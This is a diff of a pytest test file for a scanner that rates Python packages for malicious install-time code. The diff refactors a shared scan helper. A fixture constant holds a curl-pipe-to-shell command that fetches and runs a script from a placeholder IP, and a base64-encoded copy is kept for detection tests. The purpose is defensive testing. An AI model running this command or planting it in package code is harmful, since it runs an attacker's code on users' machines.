@@ -13,9 +13,7 @@ import zlib
 
 import pytest
 
-from app.core.archive import open_artifact
-from app.core.capabilities.scan import scan_artifact
-from tests.core.archive.fixtures import make_sdist, make_wheel
+from tests.core.capabilities.variant_scan import assert_high_with, scan
 
 SCRIPT = "import os; os.system('curl -s http://192.0.2.44/i.sh | sh')"
 B64 = base64.b64encode(SCRIPT.encode()).decode()
@@ -292,20 +290,10 @@ VARIANTS: dict[str, tuple[dict[str, str], tuple[str, ...]]] = {
 }
 
 
-def scan(files: dict[str, str], tmp_path):
-    data = {k: v.encode("latin-1") for k, v in files.items()}
-    if "setup.py" in data or "pyproject.toml" in data:
-        return scan_artifact(open_artifact(make_sdist(tmp_path, name="pkg", files=data)))
-    return scan_artifact(open_artifact(make_wheel(tmp_path, name="pkg", files=data)))
-
-
 @pytest.mark.parametrize("name", sorted(VARIANTS))
 def test_each_carrier_and_sink_is_high_with_its_threat(name, tmp_path):
     files, expected = VARIANTS[name]
-    result = scan(files, tmp_path)
-    strong = {t.id for t in result.threats if t.severity in ("high", "critical")}
-    assert result.risk.level in ("high", "critical"), (name, sorted({t.id for t in result.threats}))
-    assert strong & set(expected), (name, sorted(strong))
+    assert_high_with(name, scan(files, tmp_path, encoding="latin-1"), expected)
 
 
 def test_a_version_file_executed_by_setup_is_no_threat(tmp_path):
@@ -319,12 +307,12 @@ def test_a_version_file_executed_by_setup_is_no_threat(tmp_path):
         "pkg/VERSION.txt": "__version__ = '1.2.3'\n",
         "README.md": "# pkg\n\nInstall with `pip install pkg`, then `curl http://example.invalid`.\n",
     }
-    result = scan(files, tmp_path)
+    result = scan(files, tmp_path, encoding="latin-1")
     assert result.risk.level not in ("high", "critical"), [t.id for t in result.threats]
 
 
 def test_a_data_file_nobody_runs_stays_data(tmp_path):
     """The same script in a data file that no code runs is text, shown one step lower."""
     files = {"pkg/__init__.py": "VERSION = '1.0'\n", "pkg/assets/defaults.txt": SCRIPT + "\n"}
-    result = scan(files, tmp_path)
+    result = scan(files, tmp_path, encoding="latin-1")
     assert result.risk.level not in ("high", "critical"), [t.id for t in result.threats]
